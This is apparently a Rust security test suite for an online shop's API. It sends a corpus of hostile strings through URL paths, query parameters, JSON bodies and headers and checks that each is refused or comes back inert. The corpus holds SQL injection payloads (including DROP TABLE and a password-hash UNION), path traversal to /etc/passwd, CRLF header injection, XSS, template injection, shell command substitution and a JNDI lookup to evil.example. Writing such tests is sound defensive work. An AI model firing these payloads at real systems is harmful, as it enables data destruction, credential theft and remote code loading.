//! Injection, traversal, line breaks and scripts, wherever a caller can put text: refused, or inert.

use anyhow::{Result, ensure};
use reqwest::{Method, header::HeaderValue};
use serde_json::{Value, json};
use tradewind_tests::{
    Shopper, Stack,
    shopper::{order_body, plentiful_sku},
};
use uuid::Uuid;

use crate::{
    ask::ask,
    routes::{self, leaves, spoilt},
};

const CORPUS: [&str; 20] = [
    "' OR '1'='1",
    "'; DROP TABLE orders; --",
    "1) UNION SELECT password_hash FROM users --",
    "\\'; SELECT pg_sleep(10); --",
    "$1 {} %s %n %",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "x\r\nX-Injected: 1\r\n\r\n<html>",
    "x\nSet-Cookie: injected=1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}}${7*7}#{7*7}",
    "${jndi:ldap://evil.example/x}",
    "`id`;$(id)|id",
    "\u{0}",
    "\u{202e}abc\u{2028}\u{feff}",
    "\u{1f600}\u{10ffff}\u{fffd}",
    "%2e%2e%2f%00%0d%0a",
];

/// Every byte as `%XX`, so that no client cleans it up on the way.
fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

#[tokio::test]
async fn hostile_text_in_a_path_is_refused() -> Result<()> {
    let account = Shopper::operator(&Stack::under_test()?).await?;
    for text in CORPUS {
        for text in [encoded(text), encoded(&encoded(text))] {
            for (method, path) in routes::all().filter(|(_, path)| path.contains('{')) {
                let (before, after) = (path.split('{').next().unwrap_or_default(), path.split('}').nth(1).unwrap_or_default());
                let request = routes::request(&account, method, &format!("{before}{text}{after}"))?;
                let answer = ask(request.json(&json!({"quantity": 1}))).await?;
                ensure!(matches!(answer.status, 400 | 404 | 405), "{method} {path} {text}: {answer:?}");
                answer.is_inert()?;
            }
            for path in ["{}/x/front.svg", "tea/{}/front.svg", "tea/x/{}", "tea/x/{}.svg", "scenes/{}", "scenes/{}.svg"] {
                let path = path.replace("{}", &text);
                let answer = ask(account.http.get(format!("{}/media/{path}", account.gateway))).await?;
                ensure!(matches!(answer.status, 400 | 404), "{path}: {answer:?}");
                answer.is_inert()?;
            }
        }
    }
    Ok(())
}

#[tokio::test]
async fn hostile_text_in_a_query_is_refused_or_inert() -> Result<()> {
    let account = Shopper::operator(&Stack::under_test()?).await?;
    for text in CORPUS {
        let text = encoded(text);
        for path in [
            "/products?q={}",
            "/products?category={}",
            "/products?sort={}",
            "/products?cursor={}",
            "/products?price_min={}",
            "/products?in_stock={}",
            "/products?option.weight={}",
            "/products?option.{}=x",
            "/products?option.{}={}",
            "/products?{}=x",
            "/search/suggestions?q={}",
            "/shipping-methods?country={}",
            "/orders?cursor={}",
            "/orders?limit={}",
            "/admin/orders?query={}",
            "/admin/orders?status={}",
            "/admin/orders?placed_from={}",
            "/admin/orders?cursor={}",
            "/admin/dead-letters?state={}",
            "/admin/dead-letters?consumer={}",
            "/admin/dead-letters?cause={}",
            "/admin/audit?cursor={}",
        ] {
            let answer = ask(account.request(Method::GET, &path.replace("{}", &text))).await?;
            ensure!(matches!(answer.status, 200 | 422), "{path} {text}: {answer:?}");
            answer.is_inert()?;
        }
    }
    Ok(())
}

/// The service of the accounts has the same for passwords, which count as guesses: `backend/user/tests/api/hostile.rs`.
#[tokio::test]
async fn hostile_text_in_a_body_is_refused_or_inert() -> Result<()> {
    let account = Shopper::operator(&Stack::under_test()?).await?;
    let password = |path: &str, at: &str| path == "/users/me/password" || (path == "/sessions" && at == "/password");
    for (method, path, good) in routes::with_bodies().filter(|(_, path, _)| *path != "/users") {
        for at in leaves(&good, true).into_iter().chain(leaves(&good, false)).filter(|at| !password(path, at)) {
            for text in CORPUS {
                let answer = ask(routes::request(&account, method, path)?.json(&spoilt(&good, &at, json!(text))?)).await?;
                // 404: the order in the path is nobody's.
                ensure!(matches!(answer.status, 200 | 401 | 404 | 409 | 422), "{method} {path} {at} {text:?}: {answer:?}");
                answer.is_inert()?;
            }
        }
    }
    Ok(())
}

#[tokio::test]
async fn what_is_stored_of_it_comes_back_as_it_was() -> Result<()> {
    let stack = Stack::under_test()?;
    let account = Shopper::registered(&stack.gateway).await?;
    let sku = plentiful_sku(&account, &stack.database("orders").await?).await?;
    for text in CORPUS {
        let has_control = text.chars().any(char::is_control);
        let renamed = ask(account.request(Method::PATCH, "/users/me").json(&json!({"display_name": text}))).await?;
        assert_eq!(renamed.status, if has_control { 422 } else { 200 }, "{text:?}");
        if !has_control {
            let me: Value = account.send(Method::GET, "/users/me", None, &[]).await?;
            assert_eq!(me["display_name"], text);
        }
        let fields = ["name", "line1", "line2", "city", "region"];
        let mut body = order_body("tok_ok");
        for field in fields {
            body["shipping_address"][field] = json!(text);
        }
        account.put_in_cart(&sku, 1).await?;
        let placed = ask(routes::request(&account, "POST", "/orders")?.json(&body)).await?;
        placed.is_inert()?;
        if has_control {
            let named: Vec<_> = placed.problem()?.errors.into_iter().map(|error| error.field).collect();
            assert_eq!(named.len(), fields.len(), "{text:?}: {named:?}");
            continue;
        }
        assert_eq!(placed.status, 201, "{text:?}: {}", placed.text);
        let id = placed.json()?["id"].as_str().unwrap_or_default().to_owned();
        let token = placed.header("consistency-token").unwrap_or_default();
        let order = ask(account.request(Method::GET, &format!("/orders/{id}")).header("consistency-token", token)).await?;
        order.is_inert()?;
        for field in fields {
            assert_eq!(order.json()?["shipping_address"][field], text, "{field}");
        }
    }
    Ok(())
}

/// Header, what stands before the text in it, and a route of each service that reads it.
const HEADERS: [(&str, &str); 17] = [
    ("accept", ""),
    ("accept-encoding", ""),
    ("accept-language", ""),
    ("authorization", "Bearer "),
    ("authorization", ""),
    ("consistency-token", ""),
    ("consistency-token", "orders-1."),
    ("cookie", "refresh="),
    ("content-type", ""),
    ("if-none-match", ""),
    ("last-event-id", ""),
    ("range", "bytes="),
    ("request-timeout-ms", "5000"),
    ("traceparent", "00-"),
    ("tracestate", ""),
    ("user-agent", ""),
    ("x-whatever", ""),
];

#[tokio::test]
async fn hostile_text_in_a_header_is_refused_or_inert() -> Result<()> {
    let guest = Shopper::guest(&Stack::under_test()?.gateway).await?;
    // A header cannot hold line breaks: what raw bytes do is in `protocol.rs`.
    let texts: Vec<String> =
        CORPUS.iter().map(|text| text.replace(char::is_control, " ")).chain([encoded("\r\n"), "x".repeat(7_000)]).collect();
    for text in texts {
        for (name, before) in HEADERS {
            let value = HeaderValue::from_bytes(format!("{before}{text}").as_bytes())?;
            for (method, path) in [
                ("GET", "/cart"),
                ("GET", "/products/darjeeling-first-flush"),
                ("GET", "/orders/{id}/events"),
                ("GET", "/sessions"),
                ("POST", "/sessions/refresh"),
            ] {
                let mut request = routes::request(&guest, method, path)?.build()?;
                request.headers_mut().insert(name, value.clone());
                let answer = ask(reqwest::RequestBuilder::from_parts(guest.http.clone(), request)).await?;
                ensure!(matches!(answer.status, 200 | 400 | 401 | 403 | 404), "{method} {path} {name}: {text}: {answer:?}");
                answer.is_inert()?;
            }
        }
        let mut order = routes::request(&guest, "POST", "/orders")?.json(&order_body("tok_ok")).build()?;
        order.headers_mut().insert("idempotency-key", HeaderValue::from_bytes(text.as_bytes())?);
        let answer = ask(reqwest::RequestBuilder::from_parts(guest.http.clone(), order)).await?;
        let code = answer.problem()?.code;
        ensure!(
            code == "idempotency_key_invalid" || (code == "cart_empty" && text.bytes().all(|b| b.is_ascii_graphic())),
            "{text}: {code}"
        );
    }
    Ok(())
}

#[tokio::test]
async fn a_hostile_browsers_name_is_shown_as_text() -> Result<()> {
    let mut account = Shopper::nobody(&Stack::under_test()?.gateway)?;
    let name = "<script>alert(1)</script>' OR '1'='1";
    let body = json!({"email": format!("{}@example.com", Uuid::new_v4()), "password": "a long enough sentence", "display_name": "Test"});
    let session = ask(account.request(Method::POST, "/users").header("user-agent", name).json(&body)).await?;
    session.is_inert()?;
    account.access_token = session.json()?["access_token"].as_str().unwrap_or_default().to_owned();
    let devices = ask(account.request(Method::GET, "/sessions")).await?;
    devices.is_inert()?;
    assert_eq!(devices.json()?["items"][0]["user_agent"], name);
    Ok(())
}
